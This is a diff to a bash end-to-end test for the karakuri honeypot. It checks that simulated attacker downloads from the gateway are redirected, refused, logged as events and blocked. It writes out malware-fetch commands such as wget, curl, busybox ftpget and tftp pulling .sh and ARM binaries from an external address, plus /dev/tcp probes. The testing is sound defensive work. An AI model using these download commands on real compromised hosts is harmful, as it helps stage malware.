@@ -1,6 +1,6 @@
 #!/usr/bin/env bash
 # Downloads with [capture] fetch = no (the default): from an SSH session on
-# the gateway, wget, curl, busybox wget, busybox ftpget and busybox tftp to
+# the gateway, wget, curl (HTTPS too), busybox wget, busybox ftpget and busybox tftp to
 # an address off the machine reach karakuri's fetcher (redirected on the
 # host side), each fails within 5 s, and each is a file.download (url, tool,
 # fetched false, the honeynet, dst_ip); a decoy's wget too. The fetcher's
@@ -35,9 +35,11 @@ script+=$(timed curl curl -sf -o /tmp/c http://$ext:8080/x.sh)
 script+=$(timed bbwget busybox wget -O /tmp/b http://$ext/bb.arm7)
 script+=$(timed ftpget busybox ftpget -u anonymous -p guest $ext /tmp/f /pub/ftp.bin)
 script+=$(timed tftp busybox tftp -g -r boot.bin -l /tmp/t $ext)
+script+=$(timed https curl -s -o /tmp/s https://$ext/s.sh)
+script+=$(timed httpsname curl -s -o /tmp/s --resolve dl.example.net:443:$ext https://dl.example.net/m.sh)
 out=$(login "$script" 2>&1)
 e2e_log "$(tr '\n' ' ' <<<"$out")"
-for n in wget curl bbwget ftpget tftp; do
+for n in wget curl bbwget ftpget tftp https httpsname; do
   line=$(grep "^$n rc=" <<<"$out") || e2e_fail "$n did not run: $out"
   rc=$(sed 's/.* rc=\([0-9]*\).*/\1/' <<<"$line")
   ms=$(sed 's/.* ms=\([0-9]*\).*/\1/' <<<"$line")
@@ -90,9 +92,18 @@ e2e_wait_for 5 bash -c "'$KARAKURI' -c '$conf' events --json --type file.downloa
 ev file.download | jq -se --arg s "$target" 'any(.[]; .url | endswith("/decoy.sh")) and
   any(.[]; .src_ip == $s)' >/dev/null || e2e_fail "the decoy's download: $(ev file.download)"
 
+# HTTPS: the ClientHello is read and the connection refused: the server
+# name is recorded (none when dialled by address, as TLS has it).
+ev tcpip.tls >"$E2E_TMP/tls.json"
+jq -se --arg d "$ext" 'any(.[]; .dst_ip == $d and .dst_port == 443 and (.sni // "") == "" and
+  .tls_version == "1.3" and (.alpn | contains("http/1.1")) and .honeynet != null)' "$E2E_TMP/tls.json" >/dev/null ||
+  e2e_fail "tcpip.tls by address: $(cat "$E2E_TMP/tls.json")"
+jq -se 'any(.[]; .sni == "dl.example.net" and (.relayed | not))' "$E2E_TMP/tls.json" >/dev/null ||
+  e2e_fail "tcpip.tls by name: $(cat "$E2E_TMP/tls.json")"
+
 # The fetcher is reachable through the redirect alone.
 out=$(login "timeout 3 bash -c ': >/dev/tcp/$bridge/$fport' 2>/dev/null && echo OPEN-BRIDGE;
-  timeout 3 bash -c ': >/dev/tcp/$ext/443' 2>/dev/null && echo OPEN-443; echo done" 2>&1)
+  timeout 3 bash -c ': >/dev/tcp/$ext/9443' 2>/dev/null && echo OPEN-9443; echo done" 2>&1)
 [[ "$out" == *done* ]] || e2e_fail "the probes did not run: $out"
 [[ "$out" == *OPEN* ]] && e2e_fail "reached from the gateway: $out"
 e2e_as_attacker timeout 3 bash -c ": >/dev/tcp/$ATT_HOST_IP/$fport" 2>/dev/null &&
@@ -104,8 +115,8 @@ ev contain.blocked >"$E2E_TMP/blocked.json"
 jq -se --arg s "$gw" --arg d "$bridge" --argjson p $fport 'any(.[]; .src_ip == $s and .dst_ip == $d
   and .dst_port == $p and .rule == "host")' "$E2E_TMP/blocked.json" >/dev/null ||
   e2e_fail "no contain.blocked for the fetcher's port dialled directly"
-jq -se --arg s "$gw" --arg d "$ext" 'any(.[]; .src_ip == $s and .dst_ip == $d and .dst_port == 443
-  and .rule == "outside")' "$E2E_TMP/blocked.json" >/dev/null || e2e_fail "no contain.blocked for 443"
+jq -se --arg s "$gw" --arg d "$ext" 'any(.[]; .src_ip == $s and .dst_ip == $d and .dst_port == 9443
+  and .rule == "outside")' "$E2E_TMP/blocked.json" >/dev/null || e2e_fail "no contain.blocked for 9443"
 
 # A flood of requests is answered, and recorded up to the source's rate;
 # the rest are counted into the next one recorded: nothing goes unsaid.
